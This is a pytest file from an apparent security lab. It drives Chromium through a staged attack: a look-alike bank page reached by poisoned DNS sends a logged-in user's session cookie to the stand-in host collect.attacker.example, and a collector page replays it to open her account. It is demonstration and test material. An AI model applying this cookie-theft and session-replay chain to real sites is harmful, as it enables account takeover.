"""The pages in Debian's Chromium (Playwright driving /usr/bin/chromium, never a downloaded
browser), the lab CA trusted through an NSS database, no certificate-error bypass.

One browser session: alice logs in, her account opens through the edge's shared listener;
the same name at the SaaS v1 address (what poisoned DNS would answer) shows the look-alike,
whose payload posts the session cookie to the collector over https and the browser sees
that request succeed; the collector's page lists it and its Replay button opens alice's
account. Cookies ignore ports, so `--host-resolver-rules` can send www.victim.example to
the real edge on one port and to the SaaS v1 address on another, in one session.

Screenshots (1280x720) go to $SNI_LAB_SHOTS when set, else the test's tmp dir.
"""
from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
import pytest_asyncio

from lab.origins.bank import ALICE
from lab.run import Lab
from tests.conftest import need

playwright = pytest.importorskip("playwright.async_api")
CHROMIUM = "/usr/bin/chromium"
VICTIM = "www.victim.example"
COLLECTOR = "collect.attacker.example"
pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def lab(world):
    async with Lab.ephemeral(world, model="v1") as running:
        yield running


def trusting_home(tmp: Path, ca: Path) -> Path:
    """A HOME whose NSS database trusts the lab CA: how Chromium on Linux learns a root."""
    certutil = need("certutil")
    db = tmp / ".pki" / "nssdb"
    db.mkdir(parents=True)
    subprocess.run([certutil, "-N", "--empty-password", "-d", f"sql:{db}"], check=True, capture_output=True)
    subprocess.run([certutil, "-A", "-t", "C,,", "-n", "sni-lab CA", "-i", str(ca), "-d", f"sql:{db}"],
                   check=True, capture_output=True)
    return tmp


async def test_the_theft_and_the_replay_in_chromium(lab, tmp_path):
    if not os.access(CHROMIUM, os.X_OK):
        pytest.skip(f"{CHROMIUM} is not installed (apt-get install chromium)")
    shots = Path(os.environ.get("SNI_LAB_SHOTS") or tmp_path / "shots")
    shots.mkdir(parents=True, exist_ok=True)
    w = lab.world
    edge, poisoned = w.listener_by_name["anycast"], w.listener_by_name["saas-v1"]
    victim, collector = w.origin_by_name["victim"], w.origin_by_name["collector"]
    assert len({edge.port, poisoned.port, victim.port}) == 3  # the rules below tell them apart by port
    rules = ", ".join([f"MAP {VICTIM}:{edge.port} {edge.host}", f"MAP {VICTIM}:{poisoned.port} {poisoned.host}",
                       f"MAP {VICTIM}:{victim.port} {victim.host}", f"MAP {COLLECTOR} {collector.host}"])
    home = trusting_home(tmp_path / "home", lab.ca.cert_path)
    async with playwright.async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=CHROMIUM, args=[f"--host-resolver-rules={rules}"],
                                           env={**os.environ, "HOME": str(home)})
        try:
            page = await browser.new_page(viewport={"width": 1280, "height": 720})
            failed = []
            page.on("requestfailed", lambda r: failed.append((r.url, r.failure)))

            # The login straight at the victim origin (the cookie is the name's, whatever the port)...
            await page.goto(f"http://{VICTIM}:{victim.port}/login")
            await page.fill("#user", "alice")
            await page.fill("#password", "correct horse")
            await page.screenshot(path=shots / "pages-1-login.png")
            await page.click("button[type=submit]")
            # ...and her account through the edge's shared listener, under the lab certificate.
            answer = await page.goto(f"https://{VICTIM}:{edge.port}/account")
            assert answer.status == 200 and answer.headers["x-lab-origin"] == "victim"
            assert await page.inner_text("[data-field=balance]") == ALICE.balance
            await page.screenshot(path=shots / "pages-2-account.png")
            await page.goto(f"https://{VICTIM}:{edge.port}/")  # the real home page, to compare with the copy
            await page.screenshot(path=shots / "pages-3-home.png")
            session = next(c for c in await page.context.cookies() if c["name"] == "session")

            # The same name at the SaaS v1 address: the look-alike, and its payload's request.
            async with page.expect_response(lambda r: r.url.startswith(f"https://{COLLECTOR}:")) as posted:
                answer = await page.goto(f"https://{VICTIM}:{poisoned.port}/")
            assert answer.headers["x-lab-origin"] == "saas"
            assert (await posted.value).status == 200  # read by the page: CORS let it through
            assert await page.inner_text(".brand") == "Victim Bank"
            await page.screenshot(path=shots / "pages-4-lookalike.png")
            [loot] = lab.origins.collected
            assert loot["data"]["cookie"] == f"session={session['value']}"
            assert loot["data"]["origin"] == f"https://{VICTIM}:{poisoned.port}"

            await page.goto(f"https://{COLLECTOR}:{collector.port}/")
            assert session["value"] in await page.inner_text(f"#loot-{loot['id']} .cookie")
            await page.screenshot(path=shots / "pages-5-collector.png")
            await page.click(f"#loot-{loot['id']} button")
            await page.wait_for_selector(f"#loot-{loot['id']} .result")
            text = await page.inner_text(f"#loot-{loot['id']} .result")
            assert f"Opened alice's account: balance {ALICE.balance}" in text
            await page.screenshot(path=shots / "pages-6-replay.png")
            assert failed == []
        finally:
            await browser.close()
